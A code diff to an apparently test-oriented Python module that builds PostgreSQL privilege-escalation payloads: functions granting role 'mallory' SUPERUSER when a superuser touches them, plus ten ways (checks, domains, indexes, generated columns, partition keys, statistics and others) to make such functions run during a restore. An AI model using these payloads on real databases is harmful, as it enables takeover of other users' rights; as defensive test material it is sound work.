@@ -1,4 +1,4 @@
-"""What code of a database tries when it runs with the rights of somebody else."""
+"""What code of a database tries when it runs with the rights of somebody else, and the definitions that run it."""
 
 TRY = """
     FOR name IN SELECT rolname FROM pg_roles LOOP
@@ -24,3 +24,43 @@ TRY = """
 def attack(role, proof):
     """The body with both filled in."""
     return TRY.replace("{role}", role).replace("{proof}", str(proof))
+
+
+_EVIL = [
+    "CREATE SCHEMA mine",
+    "CREATE FUNCTION mine.attack() RETURNS int LANGUAGE plpgsql AS $$ DECLARE name text; BEGIN {attack} RETURN 1; END $$",
+    """CREATE FUNCTION mine.silent(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
+        IF (SELECT rolsuper FROM pg_roles WHERE rolname = session_user) THEN PERFORM mine.take(); END IF; RETURN $1; END $$""",
+    "CREATE FUNCTION mine.take() RETURNS void LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE mallory SUPERUSER; END $$",
+    "CREATE FUNCTION mine.one(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM mine.attack(); RETURN $1; END $$",
+]
+WAYS = {
+    "a check": ["CREATE TABLE mine.t (a int CHECK (mine.attack() = 1))", "INSERT INTO mine.t VALUES (1)"],
+    "a domain": [
+        "CREATE DOMAIN mine.d AS int CHECK (mine.one(value) = value)",
+        "CREATE TABLE mine.t (a mine.d)",
+        "INSERT INTO mine.t VALUES (1)",
+    ],
+    "a generated column": ["CREATE TABLE mine.t (a int, b int GENERATED ALWAYS AS (mine.one(a)) STORED)", "INSERT INTO mine.t VALUES (1)"],
+    "an index": ["CREATE TABLE mine.t AS SELECT 1 AS a", "CREATE INDEX ON mine.t (mine.one(a))"],
+    "a partial index": ["CREATE TABLE mine.t AS SELECT 1 AS a", "CREATE INDEX ON mine.t (a) WHERE mine.one(a) > 0"],
+    "an exclusion": ["CREATE TABLE mine.t AS SELECT 1 AS a", "ALTER TABLE mine.t ADD EXCLUDE USING btree (mine.one(a) WITH =)"],
+    "a materialized view": ["CREATE MATERIALIZED VIEW mine.v AS SELECT mine.attack()"],
+    "a partition key": [
+        "CREATE TABLE mine.t (a int) PARTITION BY RANGE ((a + mine.one(1)))",
+        "CREATE TABLE mine.t1 PARTITION OF mine.t FOR VALUES FROM (0) TO (9)",
+        "INSERT INTO mine.t VALUES (1)",
+    ],
+    "statistics": ["CREATE TABLE mine.t AS SELECT 1 AS a", "CREATE STATISTICS mine.s ON (mine.one(a)) FROM mine.t"],
+    "a check of another's table": [
+        "SET ROLE alice",
+        "CREATE TABLE mine.t (a int CHECK (mine.attack() = 1))",
+        "INSERT INTO mine.t VALUES (1)",
+    ],
+}
+"""Definitions, made by the database's owner, that run a function of his own while they are restored."""
+
+
+def evil_functions(proof):
+    """Statements that make mallory's functions, in a schema ``mine``; the proof is a file that no program should make."""
+    return [statement.replace("{attack}", attack("mallory", proof)) for statement in _EVIL]
